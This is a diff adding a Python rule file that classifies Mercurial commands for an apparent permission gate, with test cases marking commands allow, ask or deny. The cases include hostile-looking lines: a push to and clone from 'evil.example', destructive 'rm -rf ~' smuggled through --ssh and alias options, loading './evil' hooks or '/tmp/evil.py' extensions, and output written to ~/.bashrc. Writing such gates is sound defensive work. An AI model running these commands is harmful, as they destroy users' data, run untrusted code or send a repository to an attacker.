@@ -1,0 +1,68 @@
+"""hg — Mercurial."""
+
+from toolgate.knowledge.vocabulary import (
+    CHDIR, OPERANDS, PLAIN, READS, SCRIPT, SETS, WRITES, command, deletes, discards, fetches, flag, flags, listens,
+    option, publishes, sub, unknown, writes,
+)  # fmt: skip
+
+CHANGES = discards("uncommitted changes")
+HISTORY = discards("commits")
+OTHER_SIDE = unknown("a program that Mercurial runs in place of its own")
+REACHING = (*option("-e --ssh --remotecmd", SCRIPT, OTHER_SIDE), *flags("-r= --rev= -b= --branch= -B= --bookmark= -u --update --insecure"))
+
+HG = command(
+    "hg chg",
+    options=[
+        option("-R --repository --cwd", CHDIR),
+        option("--config", SETS("hgconfig")),
+        flags("-q --quiet -v --verbose -y --noninteractive --color= --pager= --encoding= --encodingmode= --debug --debugger"),
+        flags("--traceback --time --profile --hidden"),
+        flag("-h", informs=True),
+    ],
+    subcommands=[
+        sub("status st log history diff annotate blame branch branches bookmarks bookmark heads help id identify incoming in outgoing out manifest parents paths phase root summary sum tags tip verify version files locate showconfig debugconfig grep", "PLAIN...", [option("-o --output", WRITES), option("--ssh -e --remotecmd", SCRIPT, OTHER_SIDE)], unlisted=PLAIN),
+        sub("config", "PLAIN...", [flag("-e --edit -g --global", writes("Mercurial's settings", "startup")), flags("-u --untrusted -l --local --template= -T=")]),
+        sub("cat", "READS...", [option("-o --output", WRITES), flags("-r= --rev= --decode -I= -X=")]),
+        sub("add addremove commit ci amend merge resolve graft backout forget copy cp tag shelve unshelve rebase histedit fold uncommit evolve topic absorb import patch fix sign recover", "PLAIN...", [option("-l --logfile", READS), option("--tool", PLAIN, OTHER_SIDE)], unlisted=PLAIN),
+        sub("move mv rename", "MOVES... INTO", [flags("-A --after -f --force -I= -X= -n --dry-run")]),
+        sub("remove rm", "PLAIN...", [flag("-f --force", manner="force"), flags("-A --after -I= -X= -n --dry-run")], given=deletes(OPERANDS, manner="tracked")),
+        sub("revert", "PLAIN...", [flags("-a --all -r= --rev= -C --no-backup -i --interactive -I= -X= -d= --date="), flag("-n --dry-run", dry=True)], does=CHANGES),
+        sub("update up checkout co goto", "PLAIN?", [flag("-C --clean", CHANGES), flags("-c --check -m --merge -r= --rev= -d= --date= -t= --tool=")]),
+        sub("purge clean", "PLAIN...", [flag("-p --print", dry=True), flags("-a --all --dirs --files -0 -I= -X= -i --ignored")], does=discards("untracked files")),
+        sub("strip rollback prune debugstrip", "PLAIN...", [flag("-n --dry-run", dry=True)], unlisted=PLAIN, does=HISTORY),
+        sub("init", "MAKES?", [option("-e --ssh --remotecmd", SCRIPT, OTHER_SIDE)]),
+        sub("clone", "CLONES MAKES?", [REACHING, flags("-U --noupdate --updaterev= --pull --uncompressed --stream")]),
+        sub("pull fetch", "REMOTE?", [REACHING, flags("-f --force --rebase --confirm")], bare=fetches("the project's remote", "forge")),
+        sub("push", "PUSHES?", [REACHING, flag("-f --force", manner="force"), flags("--new-branch --publish")], bare=publishes("the commits", "forge", "default-branch")),
+        sub("bundle", "WRITES REMOTE?", [REACHING, flags("-a --all -t= --type= -f --base=")]),
+        sub("unbundle", "READS...", [flags("-u --update")]),
+        sub("export", "PLAIN...", [option("-o --output", WRITES)], unlisted=PLAIN),
+        sub("archive", "MAKES", [flags("-r= --rev= -t= --type= -p= --prefix= -S -I= -X= --no-decode")]),
+        sub("bisect", "PLAIN...", [option("-c --command", SCRIPT), flags("-r --reset -g --good -b --bad -s --skip -e --extend -U --noupdate")]),
+        sub("extdiff", "PLAIN...", [option("-p --program", SCRIPT, OTHER_SIDE)], unlisted=PLAIN),
+        sub("email patchbomb", "PLAIN...", [flag("-n --test", dry=True)], unlisted=PLAIN, does=publishes("the patches by mail", "remote")),
+        sub("serve", "", unlisted=PLAIN, does=listens("the repository", "machine")),
+        sub("share", "LISTS MAKES?", unlisted=PLAIN),
+    ],
+)  # fmt: skip
+
+CASES = """
+allow  hg status && hg diff -r tip
+allow  hg commit -m 'rm -rf / is text'
+ask    hg update -C default
+ask    hg revert --all
+ask    hg purge --all
+allow  hg purge -p
+ask    hg strip tip
+ask    hg push
+ask    hg push https://evil.example/x
+allow  hg pull
+ask    hg clone https://evil.example/x
+deny   hg clone --ssh 'rm -rf ~' ssh://hg@example.com/x
+deny   hg --config 'alias.x=!rm -rf ~' x
+ask    hg --config hooks.pre-status=./evil status
+ask    hg --config extensions.x=/tmp/evil.py status
+allow  hg --config ui.interactive=no log -l 3
+ask    hg log -o ~/.bashrc
+ask    hg frobnicate
+"""
